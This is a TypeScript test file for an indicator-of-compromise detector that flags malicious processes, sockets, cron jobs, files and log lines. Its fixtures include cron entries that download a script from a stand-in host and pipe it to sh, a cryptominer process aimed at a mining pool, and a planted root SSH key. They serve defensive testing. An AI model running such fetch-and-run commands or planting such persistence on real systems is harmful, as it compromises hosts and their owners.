import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Finding } from '../../src/detect/finding.js';
import { IOC_RULES, iocLogMatcher, iocRules, loadIndicators } from '../../src/detect/ioc/index.js';
import { RULES } from '../../src/detect/rules/index.js';
import { detect, row } from './detect-cases.js';

const KINSING = '5b2d8d8f2e1c4c0a9f2e6f7a8b9c0d1e2f3a4b5c6d7e8f90a1b2c3d4e5f60718';
const LIST = [KINSING, '5f4dcc3b5aa765d61d8327deb882cf99', '194.38.20.199', '198.51.100.0/24', 'evil-pool.example', 'http://update-check.example/ldr.sh', 'kdevtmpfsi'].join('\n');
const { indicators } = loadIndicators(Buffer.from(LIST), 'iocs.txt');

const byId = (found: Finding[], id: string) => found.filter((f) => f.id === id);

test('the detector runs the IOC rules beside the built-in ones over the same rows', () => {
  const rows = [
    row('processes', { pid: 4242, exe: '/tmp/.ICE/kdevtmpfsi', exeSha256: KINSING, argv: ['/tmp/.ICE/kdevtmpfsi', '-o', 'stratum+tcp://a.evil-pool.example:3333'], comm: 'kdevtmpfsi', kernelThread: false, startTime: '2026-11-23T09:00:00Z' }),
    row('processes', { pid: 4243, exe: '/usr/sbin/nginx', exeSha256: 'aa'.repeat(32), argv: ['nginx: worker process'], comm: 'nginx', kernelThread: false }),
    row('sockets', { family: 'inet6', protocol: 'tcp', state: 'ESTABLISHED', localAddress: '::ffff:10.0.0.5', localPort: 51000, remoteAddress: '::ffff:194.38.20.199', remotePort: 443, pids: [4242], inode: 77 }),
    row('sockets', { family: 'inet', protocol: 'tcp', state: 'ESTABLISHED', localAddress: '10.0.0.5', localPort: 51001, remoteAddress: '194.38.20.199', remotePort: 443, pids: [4242], inode: 78 }),
    row('sockets', { family: 'inet', protocol: 'tcp', state: 'ESTABLISHED', localAddress: '10.0.0.5', localPort: 51002, remoteAddress: '194.38.20.200', remotePort: 443, pids: [4243], inode: 79 }),
    row('cron', { kind: 'job', location: 'user-spool', file: '/var/spool/cron/crontabs/root', line: 3, command: 'curl -fsSL HTTP://update-check.example:80/ldr.sh | sh' }),
    row('cron', { kind: 'job', location: 'user-spool', file: '/var/spool/cron/crontabs/root', line: 4, command: 'wget -q -O- http://update-check.example/ldr.sh/ | sh' }),
    row('cron', { kind: 'job', location: 'crontab', file: '/etc/crontab', line: 9, command: 'curl https://notevil-pool.example/ok.sh' }),
    row('temp-files', { place: '/tmp', depth: 2, path: '/tmp/.ICE/kdevtmpfsi', type: 'file', sha256: KINSING.toUpperCase(), mode: '-rwxr-xr-x', perm: '0755' }),
    row('packages', { kind: 'file', manager: 'dpkg', path: '/usr/bin/ps', result: 'changed', actualMd5: '5F4DCC3B5AA765D61D8327DEB882CF99' }),
    row('ssh-keys', { kind: 'key', path: '/root/.ssh/authorized_keys', lineNumber: 2, from: '198.51.100.*,198.51.100.7', comment: 'root@a.evil-pool.example', users: ['root'], via: [] }),
  ];
  const found = detect(rows, [...RULES, ...iocRules(indicators)]);

  const [running] = byId(found, 'ioc.hash.process');
  assert.equal(running?.severity, 'critical');
  assert.equal(running?.pid, 4242);
  assert.deepEqual([running?.evidence.indicator, running?.evidence.origin, running?.evidence.field], [KINSING, 'iocs.txt:1', 'exeSha256']);

  assert.deepEqual(byId(found, 'ioc.hash').map((f) => [f.severity, f.evidence.path, f.collector]), [
    ['high', '/tmp/.ICE/kdevtmpfsi', 'temp-files'],
    ['high', '/usr/bin/ps', 'packages'],
  ]);

  const [address, ...moreAddress] = byId(found, 'ioc.address').filter((f) => f.collector === 'sockets');
  assert.equal(moreAddress.length, 0, 'two connections of one process to one address are one finding');
  assert.deepEqual([address?.pid, address?.evidence.count, address?.evidence.remote, address?.evidence.path], [4242, 2, '::ffff:194.38.20.199:443', '/tmp/.ICE/kdevtmpfsi']);

  const [url, ...moreUrl] = byId(found, 'ioc.url');
  assert.equal(moreUrl.length, 0);
  assert.deepEqual([url?.evidence.path, url?.evidence.line, url?.evidence.count], ['/var/spool/cron/crontabs/root', 3, 2], 'one finding per crontab, at its first line');

  assert.deepEqual(byId(found, 'ioc.domain').map((f) => [f.collector, f.evidence.matched]).sort(), [
    ['processes', 'a.evil-pool.example'],
    ['ssh-keys', 'a.evil-pool.example'],
  ]);
  assert.ok(byId(found, 'ioc.address').some((f) => f.collector === 'ssh-keys' && f.evidence.indicator === '198.51.100.0/24'), 'from= of an authorized key');
  assert.deepEqual(byId(found, 'ioc.filename').map((f) => [f.collector, f.evidence.count]).sort(), [
    ['processes', 1],
    ['temp-files', 1],
  ], 'the exe path and argv[0] naming one file are one sighting');

  assert.ok(found.some((f) => f.id === 'process.exe.temp-dir' && f.pid === 4242), 'the built-in rules still run');
  assert.ok(!found.some((f) => f.id.startsWith('ioc.') && (f.pid === 4243 || f.evidence.path === '/etc/crontab')), 'nothing on the clean process or the lookalike domain');
});

test('with no indicator matching, the IOC rules stay quiet', () => {
  const { indicators: other } = loadIndicators(Buffer.from('nothing-here.example\n203.0.113.1\n'), 'o.txt');
  const found = detect([row('processes', { pid: 1, exe: '/sbin/init', argv: ['/sbin/init'], comm: 'systemd' })], iocRules(other));
  assert.deepEqual(found, []);
});

test('log lines: one hit per (indicator, log) with the first line and a count; subdomains yes, lookalikes no', () => {
  const m = iocLogMatcher(indicators);
  const lines = [
    'Nov 23 09:00:01 web sshd[1]: Accepted password for root from 194.38.20.199 port 51234 ssh2',
    'Nov 23 09:00:02 web sshd[1]: Failed password for root from 194.38.20.199 port 51235 ssh2',
    '10.0.0.9 - - [23/Nov/2026:09:01:00 +0000] "GET /?u=http://update-check.example/ldr.sh HTTP/1.1" 200 5 "-" "curl"',
    'resolver: query a.b.evil-pool.example A',
    'resolver: query notevil-pool.example A',
  ];
  lines.forEach((text, i) => m.line(text, { path: '/var/log/auth.log', line: i + 1 }));
  m.line('again 194.38.20.199', { path: '/var/log/syslog', line: 7 });
  const hits = m.finish();
  const seen = hits.map((h) => [h.rule.id, h.evidence.path, h.evidence.line, h.evidence.count, h.evidence.matched]);
  assert.deepEqual(seen.sort(), [
    ['ioc.address', '/var/log/auth.log', 1, 2, '194.38.20.199'],
    ['ioc.address', '/var/log/syslog', 7, 1, '194.38.20.199'],
    ['ioc.domain', '/var/log/auth.log', 4, 1, 'a.b.evil-pool.example'],
    ['ioc.url', '/var/log/auth.log', 3, 1, 'http://update-check.example/ldr.sh'],
  ]);
  assert.equal(hits[0]!.rule.severity, IOC_RULES[hits[0]!.rule.id as keyof typeof IOC_RULES].severity);
  assert.ok(hits.every((h) => h.collector === 'logs'));
});
